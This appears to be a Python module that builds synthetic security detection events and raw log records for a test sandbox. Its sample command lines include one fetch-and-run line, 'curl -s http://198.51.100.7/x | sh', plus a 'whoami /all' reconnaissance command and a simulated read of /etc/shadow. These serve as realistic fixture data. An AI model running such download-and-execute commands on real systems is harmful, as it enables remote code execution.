"""The triggering events of a generated detection, with the record of the log that each was found in.

How an event looks follows from its scene. Events are cheap to make, since a few detections have dozens.
"""

from collections.abc import Callable
from datetime import datetime, timedelta
from typing import Any

from wiz_dagster.sandbox.wiz.detection_pools import AUDIT, SENSOR
from wiz_dagster.sandbox.wiz.pools import Record
from wiz_dagster.sandbox.wiz.times import SECOND

_EPOCH = datetime(1970, 1, 1)  # noqa: DTZ001  # its text gets its Z by hand
_KINDS = ("CLOUD_AUDIT_LOG", "WORKLOAD_RUNTIME", "CSP_THREAT_DETECTION", "KUBERNETES_AUDIT_LOG")
_ACTIONS = (
    ("ConsoleLogin", "StopLogging", "AssumeRole", "GetSecretValue"),
    ("network_accept", "process_start", "file_open", "dns_query"),
    ("UnauthorizedAccess:Compute/SSHBruteForce", "Recon:Compute/PortProbe"),
    ("create pods/exec", "create clusterrolebindings"),
)
_PROGRAMS = ("/usr/sbin/sshd", "/bin/bash", "/opt/größe/run", "C:\\Windows\\System32\\cmd.exe", "/usr/bin/python3.11")
_COMMANDS = (
    "sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups",
    "bash -c 'curl -s http://198.51.100.7/x | sh'",
    "/opt/größe/run --config=/etc/größe.conf",
    "cmd.exe /c whoami /all",
    "",
)
_SYSTEMS = ("Linux", "Ubuntu 22.04", "Windows", "linux")


def events(
    scene: int, value: int, count: int, span: tuple[int, int], actor: Record, resource: Record, origin: str
) -> list[Record]:
    """So many events, spread over the span in microseconds; deterministic in `value`."""
    first, last = span
    step = (last - first) // max(1, count - 1)
    address = _address(value) if actor["type"] != "NETWORK_ADDRESS" else actor["name"]
    meta = _meta(value)
    return [
        _event(scene, (value >> 7) + number * 0x9E3779B1, first + number * step)
        | {
            "actor": actor,
            "actorIP": address,
            "actorIPMeta": meta,
            "isForeignActorIP": meta["countryCode"] not in ("DE", None),
            "origin": origin,
            "source": origin,
            "subjectResource": resource,
            "resources": [resource],
            "cloudAccount": resource["cloudAccount"],
            "cloudPlatform": resource["cloudAccount"]["cloudProvider"],
            "rawAuditLogRecord": _RECORDS[scene]((value >> 11) + number, address, resource),
        }
        for number in range(count)
    ]


def _event(scene: int, value: int, moment: int) -> Record:
    name = _ACTIONS[scene][value % len(_ACTIONS[scene])]
    program = (value >> 3) % len(_PROGRAMS)
    runtime = scene == SENSOR
    stamp = (_EPOCH + timedelta(microseconds=moment)).isoformat(timespec="milliseconds") + "Z"
    return {
        "__typename": "CloudEvent",
        "id": f"{value & 0xFFFFFFFF:08x}-{moment // SECOND & 0xFFFF:04x}-4e00-8000-{moment & 0xFFFFFFFFFFFF:012x}",
        "name": name,
        "externalName": name,
        "externalId": f"ev-{moment:x}",
        "category": "Detection" if scene != AUDIT else "Login",
        "description": f'**{name}** was seen on :cloud-resource[it]{{resourceType="X"}} – {value % 9} times',
        "kind": _KINDS[scene],
        "cloudNativeService": ("IAM", "", "Compute", "Kubernetes")[scene],
        "severity": ("LOW", "MEDIUM", None)[value % 3],
        "status": "FAILURE" if value & 24 == 24 else "SUCCESS",
        "timestamp": stamp,
        "commandLine": _COMMANDS[program] if runtime else None,
        "parentCommandLine": None,
        "runtimeProgram": {"id": f"p-{program}", "name": _PROGRAMS[program]} if runtime else {"name": None},
        "parentRuntimeProgram": {"id": "p-init", "name": "/usr/lib/systemd/systemd"} if runtime else {"name": None},
        "osFamily": "LINUX" if runtime else None,
        "path": [_PROGRAMS[program]] if runtime else [],
        "hash": [f"{value:040x}"[-40:]] if runtime else [],
        "impactedFilePath": [],
        "statusDetails": {"providerErrorCode": None, "providerErrorMessage": None},
    }


def _address(value: int) -> str | None:
    kind = (value >> 36) % 8
    if kind == 0:
        return None
    return f"2001:db8::{value >> 50:x}" if kind == 1 else f"203.0.113.{(value >> 41) % 256}"


def _meta(value: int) -> Record:
    code, country, city = (("DE", "Germany", "Köln"), ("JP", "Japan", "東京"), (None, None, None))[value % 3]
    return {
        "country": country,
        "countryCode": code,
        "city": city,
        "latitude": 50.9375 if value & 1 else None,
        "longitude": 6.0 if value & 1 else None,
        "autonomousSystemNumber": 64496 + value % 16,
        "autonomousSystemOrganization": "Example Networks",
        "reputation": ("BENIGN", "SUSPICIOUS", "MALICIOUS", None)[value & 3],
        "reputationSource": "WIZ" if value & 3 != 3 else None,
        "memberships": [],
    }


def _trail(value: int, address: str | None, resource: Record) -> Any:
    role = {"type": "AssumedRole", "sessionContext": {"attributes": {"mfaAuthenticated": "false"}}}
    return {
        "eventVersion": "1.09",
        "eventName": _ACTIONS[AUDIT][value % 4],
        "eventSource": "iam.amazonaws.example",
        "sourceIPAddress": address or "iam.amazonaws.example",
        "userIdentity": role if value & 1 else {"type": "IAMUser", "userName": "größe", "accountId": "123456789012"},
        "requestParameters": {"bucketName": resource["name"], "Host": "a.example", "host": "b.example"},
        "responseElements": None if value & 2 else "denied",
        "readOnly": value & 1 == 0,
        "additionalEventData": {"x-amz-id-2": "abc=", "bytes.in": value % 4096, "SignatureVersion": "SigV4"},
    }


def _runtime(value: int, address: str | None, resource: Record) -> Any:
    record: Record = {
        "common": {
            "vmExternalId": resource["externalId"],
            "hostInfo": {"hostname": resource["hostname"], "osType": _SYSTEMS[value % 4], "kernel": "6.8.0-31"},
        },
        "alert": {"event": {"kind": _ACTIONS[SENSOR][value % 4], "remoteIp": address, "localPort": 22}},
    }
    if value & 4:
        record["alert"]["fileEventDetails"] = {"name": "/etc/shadow", "flags": ["O_RDONLY"], "size": value % 900}
    return record


def _finding(value: int, address: str | None, resource: Record) -> Any:  # noqa: ARG001
    return {} if value & 1 else {"service": {"count": value % 90, "action": {"actionType": "NETWORK_CONNECTION"}}}


def _request(value: int, address: str | None, resource: Record) -> Any:
    return {
        "apiVersion": "audit.k8s.io/v1",
        "verb": "create",
        "objectRef": {"resource": "pods", "subresource": "exec", "namespace": "shop", "name": resource["name"]},
        "sourceIPs": [address] if address else [],
        "annotations": {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": ""},
        "responseStatus": {"metadata": {}, "code": 101 if value & 1 else 403},
    }


_RECORDS: tuple[Callable[[int, str | None, Record], Any], ...] = (_trail, _runtime, _finding, _request)
